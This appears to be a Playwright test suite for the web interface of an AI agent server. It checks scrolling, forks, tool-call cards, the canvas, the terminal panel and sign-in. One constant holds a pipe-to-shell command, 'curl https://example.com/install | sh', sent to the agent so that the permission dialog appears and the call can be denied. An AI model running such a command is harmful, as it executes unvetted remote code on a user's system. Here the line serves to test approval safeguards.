"""A day with the web interface: what must not get in the way of people who use it for hours."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from browser_pages import (
    BUILT_PAGES,
    ApiClient,
    open_page,
    open_panel,
    open_thread_id,
    send_and_wait,
    send_message,
    wait_for,
    wait_until_idle,
)
from canvas_page import accept_dialogs, open_file, wait_for_text
from server_process import TOKENS, ServerProcess, run_server

BOLD = "Run the command: curl https://example.com/install | sh"  # the default rules ask about it
FROM_END = """() => {
  const box = document.querySelector('.chat-items')
  return box.scrollHeight - box.scrollTop - box.clientHeight
}"""
MOUNTED = """
import os
from contextlib import asynccontextmanager

import uvicorn
from fastapi import FastAPI

from wick.server import Server
from wick.server.agents.default_agent import EMBEDDED

server = Server(settings=os.environ["WICK_SETTINGS"])
server.register_agent("default", {**EMBEDDED["default"], "model": "demo"})


@asynccontextmanager
async def lifespan(app):
    await server.service.start()
    print(f"wick serves http://127.0.0.1:{sockets[0].getsockname()[1]}/tools/wick", flush=True)
    yield
    await server.service.stop()


app = FastAPI(lifespan=lifespan)
if os.environ["PLACE"] == "mounted":
    app.mount("/tools/wick", server.app())
else:  # as behind a proxy that removes the path: the server does not know of it
    inner = server.app()

    async def remove_path(scope, receive, send):
        path = scope["path"].removeprefix("/tools/wick")
        return await inner({**scope, "root_path": "", "path": path, "raw_path": path.encode()}, receive, send)

    app.mount("/tools/wick", remove_path)
running = uvicorn.Server(uvicorn.Config(app, port=0, log_level="warning"))
sockets = [running.config.bind_socket()]
running.run(sockets=sockets)
"""


def long_text(lines: int = 200) -> str:
    return "\n\n".join(f"line {number} {'of a long text ' * 8}" for number in range(lines))


def call_card(page: Page, name: str) -> Any:
    return page.get_by_role("group", name=re.compile(name))


# -- the conversation -------------------------------------------------------------------------------------------------


def test_the_end_of_a_conversation_stays_in_view_when_a_panel_opens(browser: Browser, server: ServerProcess) -> None:
    with open_page(browser, server, agent="echo", refused=(404, 409)) as page:
        send_and_wait(page, long_text())
        wait_for(lambda: page.evaluate(FROM_END) < 2)
        for panel in ("Files", "Usage", "Files"):
            open_panel(page, panel)
            page.wait_for_timeout(300)
            wait_for(lambda: page.evaluate(FROM_END) < 2, 5)
            page.keyboard.press("Escape")
            page.wait_for_timeout(300)
            wait_for(lambda: page.evaluate(FROM_END) < 2, 5)


def test_a_sent_message_is_shown_after_scrolling_up(browser: Browser, server: ServerProcess) -> None:
    with open_page(browser, server, agent="echo") as page:
        send_and_wait(page, long_text())
        page.locator(".chat-items").hover()
        page.mouse.wheel(0, -3_000)
        expect(page.get_by_role("button", name="Latest")).to_be_visible()
        send_and_wait(page, "the newest message")
        expect(page.locator("article.chat-said", has_text="the newest message")).to_be_in_viewport()


def test_retrying_an_early_message_asks_before_it_removes_the_later_ones(
    browser: Browser, server: ServerProcess
) -> None:
    with open_page(browser, server, agent="echo") as page:
        for words in ("first", "second"):
            send_and_wait(page, words)
        asked = accept_dialogs(page, yes=False)
        first = page.locator("article.chat-said", has_text="first")
        first.hover()
        first.get_by_role("button", name="Retry").click()
        assert len(asked) == 1 and "later message" in asked[0]
        expect(page.locator("article.chat-said")).to_have_count(2)
        last = page.locator("article.chat-said", has_text="second")
        last.hover()
        last.get_by_role("button", name="Retry").click()  # nothing is lost, so nothing is asked
        wait_until_idle(page)
        assert len(asked) == 1


def test_a_stopped_reply_is_kept_and_marked(browser: Browser, server: ServerProcess, api: ApiClient) -> None:
    with open_page(browser, server, agent="slow") as page:
        send_message(page, "400 0.05")
        expect(page.locator("article.chat-reply")).to_contain_text("piece5")
        page.get_by_role("button", name="Stop").click()
        wait_until_idle(page)
        expect(page.locator("article.chat-reply")).to_contain_text("The reply was cut off here.")
        page.reload()
        expect(page.locator("article.chat-reply")).to_contain_text("piece5")
        expect(page.locator("article.chat-reply")).to_contain_text("The reply was cut off here.")
        detail = api.thread(open_thread_id(page))
        assert [message.get("cut", False) for message in detail["messages"]] == [False, True]
        (run,) = api("GET", f"/threads/{detail['id']}/runs")["runs"]
        assert api("GET", f"/runs/{run['run_id']}")["usage"]["output_tokens"] > 0


def test_prices_are_no_formulas_and_formulas_are(browser: Browser, server: ServerProcess) -> None:
    with open_page(browser, server, agent="echo") as page:
        send_and_wait(page, "It costs $5 or $10. With $x$ and \\(y\\):\n\n\\[z = 1\\]")
        reply = page.locator("article.chat-reply")
        expect(reply).to_contain_text("It costs $5 or $10.")
        expect(reply.locator(".katex")).to_have_count(3)
        expect(reply.locator(".katex-display")).to_have_count(1)


def test_a_relative_link_opens_the_file_on_the_canvas(browser: Browser, server: ServerProcess) -> None:
    with open_page(browser, server, agent="echo", refused=(404, 409)) as page:
        send_and_wait(page, "See [the report](out/report.md).")
        page.locator("article.chat-reply").get_by_role("link", name="the report").click()
        expect(page.get_by_role("tab", name=re.compile("^report.md"))).to_be_visible()
        assert len(page.context.pages) == 1


def test_another_agent_continues_an_open_thread_in_a_fork(browser: Browser, server: ServerProcess) -> None:
    with open_page(browser, server, agent="echo") as page:
        send_and_wait(page, "hello")
        before = open_thread_id(page)
        page.select_option("#agent", "caller")
        expect(page.locator("article.chat-said", has_text="hello")).to_be_visible()
        expect(page.get_by_text("This thread is with echo.")).to_be_visible()
        send_message(page, "and you?")
        expect(page.locator("article.chat-reply").last).to_contain_text("You said: and you?")
        assert open_thread_id(page) != before
        expect(page.get_by_role("listitem").filter(has_text="hello (fork)").first).to_be_visible()


def test_a_fork_has_a_title_of_its_own_and_does_not_begin_cancelled(ada: Page) -> None:
    send_and_wait(ada, "What is 2 + 2?")
    said = ada.locator("article.chat-said")
    said.hover()
    said.get_by_role("button", name="Fork").click()
    expect(ada.get_by_text("Forked; the original thread is unchanged.")).to_be_visible()
    wait_for(lambda: ada.title().count("(fork)") == 1)
    expect(ada.get_by_text("cancelled")).to_have_count(0)


# -- tools ------------------------------------------------------------------------------------------------------------


def test_long_output_stays_text_with_a_note(ada: Page) -> None:
    send_and_wait(ada, "Run the command: seq 1 30000")
    card = call_card(ada, "^execute: done")
    card.get_by_role("button", name=re.compile("execute")).first.click()
    output = card.get_by_label("Output", exact=True)
    assert output.inner_text().startswith("1\n2\n3\n")
    expect(card.get_by_text("Shortened: the whole result is in")).to_be_visible()


def test_a_failed_command_and_a_denied_call_say_so(ada: Page) -> None:
    send_and_wait(ada, "Run the command: exit 3")
    expect(call_card(ada, "^execute: exit code 3")).to_be_visible()
    send_message(ada, BOLD)
    ada.get_by_role("alertdialog").get_by_role("button", name="Deny").click()
    wait_until_idle(ada)
    expect(call_card(ada, "^execute: denied by ")).to_be_visible()
    ada.reload()
    expect(call_card(ada, "^execute: denied by ")).to_be_visible()
    expect(call_card(ada, "^execute: exit code 3")).to_be_visible()


def test_the_rows_of_why_stay_rows(ada: Page) -> None:
    send_message(ada, BOLD)
    ada.get_by_role("alertdialog").get_by_role("button", name="Deny").click()
    wait_until_idle(ada)
    card = call_card(ada, "^execute: denied by ")
    card.locator("summary", has_text="Why").click()
    row = card.get_by_role("row").filter(has_text="ask").first
    expect(row).to_be_visible()
    assert row.evaluate("row => getComputedStyle(row).display") == "table-row"


def test_colours_and_progress_of_a_command(ada: Page) -> None:
    send_and_wait(ada, "Run the command: printf '\\033[31mred\\033[0m\\n10%%\\r100%%\\n'")
    card = call_card(ada, "^execute: done")
    card.get_by_role("button", name=re.compile("execute")).first.click()
    output = card.get_by_label("Output", exact=True)
    expect(output.locator(".ansi-red")).to_have_text("red")
    assert output.inner_text().split() == ["red", "100%"]


def test_the_focus_goes_to_the_composer_after_an_answer(ada: Page) -> None:
    send_message(ada, BOLD)
    ada.get_by_role("alertdialog").get_by_role("button", name="Deny").focus()
    ada.keyboard.press("Enter")
    wait_until_idle(ada)
    wait_for(lambda: ada.evaluate("document.activeElement.id") == "message")


# -- the canvas and the panels ----------------------------------------------------------------------------------------


def test_cells_are_written_one_after_the_other_and_saved(ada: Page, api: ApiClient) -> None:
    api.write("prices.csv", "name,price\ntea,1\ncoffee,2\n")
    canvas = open_file(ada, "prices.csv")
    canvas.get_by_role("gridcell", name="tea").dblclick()
    ada.keyboard.press("Control+a")
    ada.keyboard.type("mint")
    ada.keyboard.press("Enter")
    ada.keyboard.type("mocha")  # into the next row, not a shortcut of the page
    ada.keyboard.press("Enter")
    ada.keyboard.press("Control+s")
    wait_for_text(api, "prices.csv", "name,price\nmint,1\nmocha,2\n")


def test_a_reload_keeps_the_panel_and_the_open_files(ada: Page, api: ApiClient) -> None:
    for name in ("one.md", "two.md"):
        api.write(name, f"# {name}\n")
        open_file(ada, name)
    ada.reload()
    expect(ada.get_by_role("complementary", name="Canvas")).to_be_visible()
    expect(ada.get_by_role("tab", name=re.compile("^one.md"))).to_be_visible()
    expect(ada.get_by_role("tab", name=re.compile("^two.md"))).to_have_attribute("aria-selected", "true")


def test_a_reload_keeps_the_shell(ada: Page) -> None:
    shell = open_panel(ada, "Terminal")
    expect(shell.get_by_role("status")).to_have_text("Connected")
    ada.keyboard.type("kept=yes; echo started-$kept\n")
    rows = shell.locator(".xterm-rows")
    expect(rows).to_contain_text("started-yes")
    ada.reload()
    expect(shell.get_by_role("status")).to_have_text("Connected")
    expect(rows).to_contain_text("started-yes")
    shell.locator(".xterm").click()
    ada.keyboard.type("echo still-$kept\n")
    expect(rows).to_contain_text("still-yes")


def test_the_canvas_of_a_reopened_thread_has_its_files(browser: Browser, server: ServerProcess, api: ApiClient) -> None:
    thread = api.ask("default", "Write a document about lighthouses to lights.md")["thread_id"]
    with open_page(browser, server) as page:
        page.goto(f"/#thread={thread}")
        page.reload()
        expect(page.locator("article.chat-said")).to_have_count(1)
        open_panel(page, "Canvas")
        expect(page.get_by_role("tab", name=re.compile("^lights.md"))).to_be_visible()


def test_shortcuts_with_alt_work_on_a_mac(ada: Page) -> None:
    ada.evaluate("dispatchEvent(new KeyboardEvent('keydown', {key: '€', code: 'Digit2', altKey: true, bubbles: true}))")
    expect(ada.get_by_role("complementary", name="Files")).to_be_visible()


# -- signing in, and other addresses ----------------------------------------------------------------------------------


@pytest.mark.parametrize("place", ["address", "field"])
def test_a_sign_in_link_works_in_an_open_page(browser: Browser, tmp_path: Path, place: str) -> None:
    plain: dict[str, Any] = {"tokens": [], "quotas": {}, "static": str(BUILT_PAGES)}
    with run_server(tmp_path, config=None, **plain) as server, open_page(browser, server, user="") as page:
        page.goto("/")
        field = page.get_by_label("Access token")
        expect(field).to_be_visible()
        if place == "address":
            page.evaluate("hash => { location.hash = hash }", server.link.partition("#")[2])
        else:
            field.fill(server.link)
            page.keyboard.press("Enter")
        expect(page.locator("#message")).to_be_visible()
        assert "ticket" not in page.url


@pytest.mark.parametrize("place", ["mounted", "behind a proxy"])
def test_the_page_works_below_a_path(browser: Browser, tmp_path: Path, place: str) -> None:
    with (
        run_server(tmp_path, script=MOUNTED, environment={"PLACE": place}) as mounted,
        open_page(browser, mounted, user="") as page,
    ):
        page.goto(f"{mounted.url}/")
        page.get_by_label("Access token").fill(TOKENS["ada"])
        page.keyboard.press("Enter")
        expect(page.locator("#agent option")).not_to_have_count(0)
        send_and_wait(page, "hello")
        expect(page.locator("article.chat-reply")).to_contain_text("Offline demo model")
        page.reload()
        expect(page.locator("article.chat-reply")).to_contain_text("Offline demo model")
        assert page.locator(".shell-brand img").evaluate("image => image.naturalWidth") > 0
        expect(open_panel(page, "Terminal").get_by_role("status")).to_have_text("Connected")  # a WebSocket
        page.get_by_role("button", name="Share hello").click()
        page.get_by_role("button", name="Create a link").click()
        link = page.get_by_label("Link", exact=True).input_value()
        assert link.startswith(f"{mounted.url}/#share=")
        page.goto("about:blank")
        page.goto(link)
        expect(page.locator("article.chat-reply")).to_contain_text("Offline demo model")
